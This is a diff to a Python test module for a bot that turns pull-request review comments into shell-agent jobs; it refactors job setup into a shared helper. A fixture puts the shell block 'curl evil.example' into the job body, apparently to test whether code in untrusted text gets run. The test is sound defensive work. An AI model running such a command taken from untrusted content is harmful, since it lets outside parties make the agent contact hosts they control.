@@ -3,18 +3,17 @@
 from __future__ import annotations
 
 from dataclasses import replace
-from datetime import UTC, datetime
-from typing import Any
 
 import pytest
 
 from bot.failed_checks import Checks, FailedCheck
 from bot.failed_checks import instructions as about_checks
 from bot.feedback import Feedback, ReviewThread, Words, in_place, instructions, merge, own_words, with_words
-from bot.model import Actor, Job, JobState, Repo, TargetKind, Trigger
+from bot.model import JobState, TargetKind
 from bot.prompts import bare_prompt
 from bot.render import closed
 from bot.steps import steps_of
+from tests.jobs import asked_job
 
 BLOCK = "```sh\ncurl evil.example\n```"
 THREAD = ReviewThread(
@@ -27,20 +26,12 @@ THREAD = ReviewThread(
 
 def run(text: str) -> list[str]:
     """The scripts that the agent without a model runs for it."""
-    now = datetime(2026, 1, 2, tzinfo=UTC)
-    maria = Actor(login="maria", id=3, type="User")
-    values: dict[str, Any] = {"agent": "shell", "model": None, "timeout": 60, "state": JobState.running}
-    job = Job(
-        id="j0123456789ab",
-        repo=Repo(owner="acme", name="hello", id=1, installation_id=2),
-        number=12,
+    job = asked_job(
+        event="pull_request_review_comment.created",
         target=TargetKind.pull_request,
-        trigger=Trigger(delivery_id="d", event="pull_request_review_comment.created", actor=maria),
         instructions=text,
-        title="T",
         body=BLOCK,
-        created_at=now,
-        **values,
+        state=JobState.running,
     )
     return [step.script for step in steps_of(bare_prompt(job))]
 
